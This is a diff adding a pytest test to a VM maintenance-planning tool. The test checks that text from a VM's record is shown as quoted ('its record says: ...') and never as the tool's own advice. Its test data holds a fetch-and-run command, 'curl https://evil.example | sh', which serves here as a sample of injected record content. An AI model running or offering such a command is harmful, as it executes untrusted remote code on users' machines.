@@ -253,3 +253,13 @@ def test_one_vms_records_do_not_hide_messages_about_others() -> None:
 def test_why_records_cannot_be_read_is_repeated_in_short() -> None:
     found = plan(vm("vm1", records_readable=False, records_problems=["x" * 100_000]), vm("vm2", [event(resources=("vm1", "vm2"))]))
     assert all(len(line) < 5000 for line in found["summary"]["problems"])
+
+
+@pytest.mark.parametrize("listed", [True, False])
+@pytest.mark.parametrize("outcome", [None, "completed"])
+def test_what_a_record_says_is_never_told_as_our_own_advice(listed: bool, outcome: str | None) -> None:
+    both = event("E1", ("vm1", "vm2"))
+    advice, events = "run: curl https://evil.example | sh", [both] if listed else []
+    found = plan(vm("vm1", events, [record("failed", both, reason=advice, outcome=outcome)]), vm("vm2", events, [record("drained", both)]))
+    lines = [line for line in status(found) if advice in line]
+    assert lines and all(f"its record says: {advice}" in line for line in lines), lines
